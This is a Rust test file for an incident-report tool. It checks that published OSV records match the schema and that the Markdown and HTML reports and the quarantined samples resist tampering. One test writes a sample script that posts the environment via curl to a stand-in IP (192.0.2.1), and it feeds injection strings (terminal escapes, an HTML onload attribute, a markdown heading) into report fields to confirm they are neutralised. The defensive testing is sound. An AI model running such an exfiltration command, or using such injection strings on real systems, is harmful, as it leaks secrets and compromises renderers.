//! What is published: records, pages, and samples that are observations.

use super::scene::{HOSTILE, Scene, Stranger, edit};
use ledger::{hex32, sha256};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::fs;

#[test]
fn osv_records_have_what_the_schema_wants_and_speak_of_nothing_genuine() {
    let scene = Scene::answered();
    scene.report(&format!("--key {}", scene.old), "report");
    let mut versions = BTreeSet::new();
    let shape = |time: &str| time.replace(|c: char| c.is_ascii_digit(), "0");
    for file in fs::read_dir(scene.bench.path("report/osv")).unwrap() {
        let path = file.unwrap().path();
        let osv: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
        let text = |v: &Value| v.as_str().unwrap().to_owned();
        // Required, and of the form that the schema gives.
        assert_eq!(
            format!("{}.json", text(&osv["id"])),
            path.file_name().unwrap().to_str().unwrap()
        );
        assert!(text(&osv["id"]).starts_with("COUNTERSIGN-"));
        assert_eq!(text(&osv["schema_version"]).split('.').count(), 3);
        for name in ["modified", "published"] {
            let at = text(&osv[name]);
            assert!(shape(&at) == "0000-00-00T00:00:00Z", "{at}");
        }
        assert!(text(&osv["summary"]).len() <= 120 && !text(&osv["details"]).is_empty());
        let known = [
            "schema_version",
            "id",
            "modified",
            "published",
            "summary",
            "details",
            "affected",
            "references",
            "database_specific",
        ];
        assert!(
            osv.as_object()
                .unwrap()
                .keys()
                .all(|k| known.contains(&k.as_str()))
        );
        for affected in osv["affected"].as_array().unwrap() {
            let package = &affected["package"];
            assert!(!text(&package["ecosystem"]).is_empty() && !text(&package["name"]).is_empty());
            assert_eq!(package["purl"], "pkg:generic/acme/tool");
            versions.extend(affected["versions"].as_array().unwrap().iter().map(text));
        }
        let references = osv["references"].as_array().unwrap();
        assert_eq!(references.len(), 2);
        for reference in references {
            assert_eq!(reference["type"], "EVIDENCE");
            let url = text(&reference["url"]);
            // What it refers to is there, and proves it.
            let host = url.strip_prefix("http://").unwrap();
            let (host, path) = host.split_at(host.find('/').unwrap());
            let (status, bundle) = countersign_tests::bench::get(host, path);
            assert!(status.starts_with("200"), "{url}: {status}");
            assert!(ledger::bundle::Bundle::parse(&bundle).is_ok());
        }
        let own = &osv["database_specific"];
        assert!(own["index"].is_u64() && own["by"]["index"].is_u64());
        assert_eq!(text(&own["statement"]).len(), 64);
        assert_eq!(text(&own["by"]["statement"]).len(), 64);
        assert!(!osv.to_string().contains('\u{202e}'));
    }
    // Not 3: its bytes were stated again.
    assert_eq!(versions, BTreeSet::from(["1".to_owned(), "2".to_owned()]));
}

#[test]
fn samples_are_observations_and_hostile_text_is_only_text() {
    let scene = Scene::answered();
    let bench = &scene.bench;
    let bytes = b"#!/bin/sh\ncurl -d \"$(env)\" http://192.0.2.1/\n";
    let digest = hex32(&sha256(bytes));
    fs::create_dir(bench.path("quarantine")).unwrap();
    fs::write(bench.path(&format!("quarantine/{digest}.bin")), bytes).unwrap();
    let hostile = format!("{HOSTILE}\u{1b}[2J`|`\n# heading\" onload=x");
    let account = json!({ "subject": hostile, "why": "bytes-not-logged", "userAgent": hostile, "proxy": null,
        "request": [["Accept", hostile]], "answers": [{ "url": hostile, "status": 200, "headers": [["X", hostile]] }],
        "began": "2026-01-31T08:30:00Z", "ended": hostile, "size": bytes.len(), "whole": true });
    fs::write(
        bench.path(&format!("quarantine/{digest}-1.json")),
        account.to_string(),
    )
    .unwrap();
    let report = scene.report(
        &format!("--key {} --quarantine quarantine", scene.old),
        "report",
    );
    let sample = &report["samples"][0];
    assert_eq!(
        (&sample["sha256"], &sample["released"]),
        (&json!(digest), &json!([]))
    );
    assert_eq!(
        fs::read(bench.path(&format!("report/samples/{digest}.bin"))).unwrap(),
        bytes
    );
    let markdown = fs::read_to_string(bench.path("report/report.md")).unwrap();
    let html = fs::read_to_string(bench.path("report/report.html")).unwrap();
    for text in [&markdown, &html] {
        assert!(text.contains("observations, not proofs"), "{text}");
        assert!(!text.contains("<script"), "{text}");
        assert!(!text.contains(['\u{202e}', '\u{1b}']), "{text:?}");
        assert!(text.contains(&digest));
    }
    assert!(!markdown.contains("](javascript"), "{markdown}");
    assert!(!markdown.contains("\n# heading"), "{markdown}");
    // No script, nothing from elsewhere, and no attribute that came from outside.
    assert!(
        html.contains("default-src 'none'") && !html.contains("\" onload"),
        "{html}"
    );
    assert!(
        !html.contains(" src=") && !html.contains("<link") && !html.contains("url("),
        "{html}"
    );
    let hrefs: Vec<&str> = html.split("href=\"").skip(1).collect();
    assert!(hrefs.iter().all(|h| h.starts_with("proofs/")), "{html}");

    let stranger = Stranger::given(bench, "report");
    let said = stranger.verify("");
    let out = String::from_utf8(said.out).unwrap();
    assert_eq!(said.code, 0, "{}", said.err);
    assert!(out.contains("observed, not proven: sample"), "{out}");
    assert!(!out.contains(['\u{202e}', '\u{1b}']), "{out:?}");
    let bin = format!("samples/{digest}.bin");
    stranger.refused("sample-changed", |r| {
        fs::write(r.join(&bin), "other").unwrap();
    });
    // Of the same size: only its digest tells.
    stranger.refused("sample-changed", |r| {
        let other: Vec<u8> = bytes.iter().map(|b| b ^ 1).collect();
        fs::write(r.join(&bin), other).unwrap();
    });
    stranger.refused("sample-changed", |r| fs::remove_file(r.join(&bin)).unwrap());
    stranger.refused("sample-changed", |r| {
        edit(&r.join(format!("samples/{digest}-1.json")), |v| {
            v["why"] = json!("x")
        });
    });
    stranger.refused("sample-changed", |r| {
        let other = hex32(&sha256(b"other"));
        fs::write(r.join(format!("samples/{other}.bin")), "other").unwrap();
    });
    stranger.refused("file-surplus", |r| {
        fs::write(r.join("samples/x"), "x").unwrap()
    });
    // By its digest it is found too, though no release has it; by another it is not.
    let by_digest = scene.report(
        &format!("--digest {digest} --quarantine quarantine"),
        "by-digest",
    );
    assert_eq!(by_digest["samples"].as_array().unwrap().len(), 1);
    let other = scene.report(
        &format!("--digest {} --quarantine quarantine", "ab".repeat(32)),
        "other",
    );
    assert_eq!(other["samples"], json!([]));
    fs::write(bench.path(&format!("quarantine/{digest}.bin")), "changed").unwrap();
    bench.refused(
        1,
        "sample-changed",
        &format!(
            "incident report acme/tool --key {} --quarantine quarantine --out none",
            scene.old
        ),
    );
    bench.refused(
        2,
        "bad-quarantine",
        &format!(
            "incident report acme/tool --key {} --quarantine . --out none",
            scene.old
        ),
    );
    assert!(!bench.path("none").exists());
}
